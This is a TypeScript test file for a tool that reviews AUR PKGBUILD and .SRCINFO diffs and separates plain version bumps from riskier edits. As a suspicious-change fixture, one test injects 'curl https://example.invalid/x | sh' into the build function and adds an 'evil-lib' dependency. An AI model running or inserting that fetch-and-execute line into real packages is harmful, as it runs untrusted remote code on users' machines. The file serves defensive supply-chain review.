import { describe, expect, it } from 'vitest';
import { isVersionBump, pkgbuildParts, reviewChanges, srcinfoParts } from './review.js';

const PKGBUILD = `# Maintainer: Alice <alice@example.invalid>
pkgname=tool
pkgver=1.2.0
pkgrel=1
pkgdesc='A tool'
arch=('x86_64')
depends=('glibc')
source=("https://example.invalid/tool-$pkgver.tar.gz"
        'fix.patch')
sha256sums=('0123456789abcdef'
            'fedcba9876543210')
b2sums_x86_64=('aa')

prepare() {
  patch -p1 < fix.patch
}

build() {
  make
}

package() {
  make DESTDIR="$pkgdir" install
}
`;

const SRCINFO = `pkgbase = tool
\tpkgdesc = A tool
\tpkgver = 1.2.0
\tpkgrel = 1
\tarch = x86_64
\tdepends = glibc
\tsource = https://example.invalid/tool-1.2.0.tar.gz
\tsource = fix.patch
\tsha256sums = 0123456789abcdef
\tsha256sums = fedcba9876543210

pkgname = tool
`;

const bump = (text: string) =>
  text
    .replace('pkgver=1.2.0', 'pkgver=1.3.0')
    .replace('pkgrel=1', 'pkgrel=2')
    .replace('0123456789abcdef', '1111111111111111')
    .replace("b2sums_x86_64=('aa')", "b2sums_x86_64=('bb'\n  'cc')")
    .replace('pkgver = 1.2.0', 'pkgver = 1.3.0')
    .replace('pkgrel = 1', 'pkgrel = 2')
    .replace('tool-1.2.0.tar.gz', 'tool-1.3.0.tar.gz')
    .replace('Alice <alice', 'Bob <bob');

const review = (
  pkgbuild: string,
  srcinfo: string,
  changed = [
    { status: 'M', path: 'PKGBUILD' },
    { status: 'M', path: '.SRCINFO' },
  ],
) =>
  reviewChanges({
    changed,
    oldPkgbuild: PKGBUILD,
    newPkgbuild: pkgbuild,
    oldSrcinfo: SRCINFO,
    newSrcinfo: srcinfo,
  });

describe('diff review', () => {
  it('passes a change of pkgver, pkgrel and checksums, with the new version in the .SRCINFO URLs', () => {
    const findings = review(bump(PKGBUILD), bump(SRCINFO));
    expect(findings).toEqual({ files: [], pkgbuild: [], srcinfo: [] });
    expect(isVersionBump(findings)).toBe(true);
  });

  it('names the changed functions, variables and .SRCINFO keys of anything more', () => {
    const pkgbuild = bump(PKGBUILD)
      .replace('  make\n}', '  make\n  curl https://example.invalid/x | sh\n}')
      .replace("depends=('glibc')", "depends=('glibc' 'evil-lib')")
      .replace("'fix.patch')", "'fix.patch'\n        'https://example.invalid/more.tar.gz')");
    const srcinfo = bump(SRCINFO).replace('\tdepends = glibc\n', '\tdepends = glibc\n\tdepends = evil-lib\n');
    const findings = review(pkgbuild, srcinfo, [
      { status: 'M', path: 'PKGBUILD' },
      { status: 'A', path: 'tool.install' },
    ]);
    expect(findings.pkgbuild).toEqual(['depends', 'source', 'build()']);
    expect(findings.srcinfo).toEqual(['depends']);
    expect(findings.files).toEqual(['A tool.install']);
    expect(isVersionBump(findings)).toBe(false);
  });

  it('holds an epoch, a new install script variable and a removed function', () => {
    const pkgbuild = bump(PKGBUILD)
      .replace('pkgrel=2', 'pkgrel=2\nepoch=1\ninstall=tool.install')
      .replace(/prepare\(\) \{\n[^}]*\}\n/, '');
    expect(pkgbuildParts(pkgbuild).has('prepare()')).toBe(false);
    expect(review(pkgbuild, bump(SRCINFO)).pkgbuild).toEqual(['epoch', 'install', 'prepare()']);
  });

  it('does not mistake a version inside another number for the version', () => {
    const parts = srcinfoParts(
      'pkgbase = x\n\tpkgver = 1.2\n\tdepends = python>=3.11.2\n\tsource = x-1.2.tar.gz\n',
    );
    expect(parts.get('depends')).toBe('pkgbase x: python>=3.11.2');
    expect(parts.get('source')).toBe('pkgbase x: x-<pkgver>.tar.gz');
  });
});
